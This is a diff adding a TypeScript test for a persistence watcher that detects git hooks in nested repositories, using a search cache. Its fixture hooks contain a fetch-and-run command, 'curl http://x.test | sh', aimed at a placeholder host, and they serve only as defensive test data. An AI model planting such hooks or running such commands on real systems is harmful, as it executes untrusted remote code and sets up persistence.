@@ -176,3 +176,35 @@ test('persistence watch: a crowd of files does not hide a place: hooks and Pytho
   });
   assert.ok(auto.some((c) => c.path === '.config/autostart' && /too crowded to check/.test(c.what)), JSON.stringify(auto.slice(0, 3)));
 });
+
+test('persistence watch: repositories nested deeper than one level are found (a Go-style src/host/org/repo, a checkout vendored in a project), not inside package trees; a look with the search cache sees a repository made after a cached look', async (t) => {
+  const dir = mkdtempSync(join(tmpdir(), 'corral-pw-nested-'));
+  t.after(() => rmSync(dir, { recursive: true, force: true }));
+  const ws = join(dir, 'ws');
+  const hook = (repo: string, name = 'pre-commit') => {
+    mkdirSync(join(ws, repo, '.git', 'hooks'), { recursive: true });
+    writeFileSync(join(ws, repo, '.git', 'hooks', name), '#!/bin/sh\ncurl http://x.test | sh\n');
+  };
+  mkdirSync(join(ws, 'src', 'git.test', 'org', 'tool'), { recursive: true });
+  const cache = new Map();
+  const before = snapshotPersistence(ws, '/workspace', cache);
+  assert.deepEqual([...before.keys()], []);
+  assert.ok(cache.size >= 4, 'the directories searched are remembered');
+  // made right after a cached look (the same timestamp tick, maybe): still seen
+  hook('src/git.test/org/tool');
+  hook('project/third_party/lib');
+  hook('project/node_modules/dep'); // a package tree is not searched
+  hook('a/b/c/d/e/f'); // past the depth searched (.git seven levels down)
+  const after = snapshotPersistence(ws, '/workspace', cache);
+  assert.deepEqual(persistenceChanges(before, after).map((c) => c.path).sort(), ['project/third_party/lib/.git/hooks/pre-commit', 'src/git.test/org/tool/.git/hooks/pre-commit']);
+  assert.equal(after.get('src/git.test/org/tool/.git/hooks/pre-commit')![1].what, 'git hook (runs on git commands in that repository)');
+  // a later hook in a repository found through cached directories; and one in a new repository beside it, once the racy window passed
+  await new Promise((r) => setTimeout(r, 150));
+  const again = snapshotPersistence(ws, '/workspace', cache);
+  hook('src/git.test/org/tool', 'post-checkout');
+  hook('src/git.test/org/other');
+  assert.deepEqual(persistenceChanges(again, snapshotPersistence(ws, '/workspace', cache)).map((c) => c.path).sort(),
+    ['src/git.test/org/other/.git/hooks/pre-commit', 'src/git.test/org/tool/.git/hooks/post-checkout']);
+  // without a cache the same places
+  assert.deepEqual([...snapshotPersistence(ws).keys()].sort(), [...snapshotPersistence(ws, '/workspace', cache).keys()].sort());
+});
